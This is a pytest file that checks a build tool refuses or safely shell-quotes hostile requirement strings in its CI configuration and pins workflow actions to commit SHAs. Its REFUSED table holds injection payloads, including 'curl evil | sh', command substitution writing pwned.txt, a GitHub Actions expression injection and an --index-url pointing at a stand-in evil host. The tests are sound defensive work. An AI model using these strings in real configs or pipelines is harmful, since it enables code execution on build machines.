"""The rendered workflow with hostile [tool.cpubuild.ci] values: a requirement
is parsed (PEP 508) and shell-quoted, or refused in one line with ci/
untouched; `--pin-actions` pins every action to a commit SHA from the table."""

from __future__ import annotations

import re
import shlex
from pathlib import Path

import pytest
from cpubuild.supplychain import action_pins, install_spec
from hostile import assert_one_line, cli, tree_hash

REFUSED = {
    "command-substitution": "cpubuild==0.2.0 $(id>pwned.txt)",
    "backticks": "cpubuild==0.2.0 `id`",
    "semicolon": "cpubuild; curl evil | sh",
    "newline": "cpubuild==0.2.0\nid",
    "gha-expression": "cpubuild==${{ github.event.issue.title }}",
    "option-injection": "--index-url=http://evil/ cpubuild",
    "path-with-space": "./tools $(id)",
    "empty-version": "cpubuild==",
}
QUOTED = {  # accepted: what the shell receives, word for word
    "pinned": ("cpubuild==0.2.0", "cpubuild==0.2.0"),
    "range": ("cpubuild>=0.2,<0.3", "cpubuild<0.3,>=0.2"),
    "marker": ('cpubuild==0.2.0; python_version >= "3.10"', 'cpubuild==0.2.0; python_version >= "3.10"'),
    "url": ("cpubuild @ https://example.invalid/c-0.2.0-py3-none-any.whl?x=$(id)",
            "cpubuild @ https://example.invalid/c-0.2.0-py3-none-any.whl?x=$(id)"),
    "wheel-path": ("dist/cpubuild-0.2.0-py3-none-any.whl", "dist/cpubuild-0.2.0-py3-none-any.whl"),
}
SOURCE_DIRS = {  # a directory is cpubuild's source: cpubuild-core there, cpubuild (with the extras) in cli/
    "relative": ("./tools", ["./tools", "./tools/cli"], ["./tools", "./tools/cli[s3]"]),
    "trailing-slash": ("vendor/cpubuild/", ["vendor/cpubuild/", "vendor/cpubuild/cli"],
                       ["vendor/cpubuild/", "vendor/cpubuild/cli[s3]"]),
}


def project(tmp_path: Path, spec: str) -> Path:
    root = tmp_path / "proj"
    assert cli("init", str(root), "--name", "relp", "--arch", "x86_64").returncode == 0
    pyproject = root / "pyproject.toml"
    pyproject.write_text(pyproject.read_text() + f"\n[tool.cpubuild.ci]\ncpubuild = {spec!r}\n".replace("'", '"')
                         if "\n" not in spec and '"' not in spec else
                         pyproject.read_text() + f"\n[tool.cpubuild.ci]\ncpubuild = '''{spec}'''\n")
    return root


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_a_hostile_requirement_is_refused_in_one_line(case: str, tmp_path: Path) -> None:
    root = project(tmp_path, REFUSED[case])
    before = tree_hash(root)
    out = cli("ci", cwd=root)
    assert_one_line(out, 2, "[tool.cpubuild.ci] cpubuild")
    assert tree_hash(root) == before
    assert not (root / "pwned.txt").exists()


@pytest.mark.parametrize("case", sorted(QUOTED))
def test_an_accepted_requirement_reaches_pip_as_one_word(case: str) -> None:
    spec, words = QUOTED[case]
    assert shlex.split(install_spec(spec)) == [words]
    with_extras = shlex.split(install_spec(spec, "s3"))
    assert len(with_extras) == 1 and "s3" in with_extras[0]


@pytest.mark.parametrize("case", sorted(SOURCE_DIRS))
def test_a_source_directory_installs_both_distributions(case: str) -> None:
    spec, plain, extras = SOURCE_DIRS[case]
    assert shlex.split(install_spec(spec)) == plain
    assert shlex.split(install_spec(spec, "s3")) == extras


def test_the_rendered_workflow_quotes_the_requirement(tmp_path: Path) -> None:
    root = project(tmp_path, "cpubuild>=0.2,<0.3")
    assert cli("ci", cwd=root).returncode == 0
    text = (root / "ci" / "release.yml").read_text()
    assert "pip install --upgrade 'cpubuild<0.3,>=0.2'" in text
    assert "pip install --upgrade 'cpubuild[s3]<0.3,>=0.2'" in text


def test_pin_actions_pins_every_action_to_a_sha(tmp_path: Path) -> None:
    root = project(tmp_path, "cpubuild==0.2.0")
    assert cli("ci", "--pin-actions", cwd=root).returncode == 0
    text = (root / "ci" / "release.yml").read_text()
    uses = re.findall(r"uses: (\S+)@(\S+)(.*)", text)
    assert uses
    pins = action_pins()
    for action, ref, comment in uses:
        assert re.fullmatch(r"[0-9a-f]{40}", ref), (action, ref)
        assert any(p["sha"] == ref and comment.strip() == f"# {p['release']}" for p in pins[action].values())
    assert cli("ci", "--check", "--pin-actions", cwd=root).returncode == 0
    assert cli("ci", "--check", cwd=root).returncode == 1  # unpinned differs: --check says so
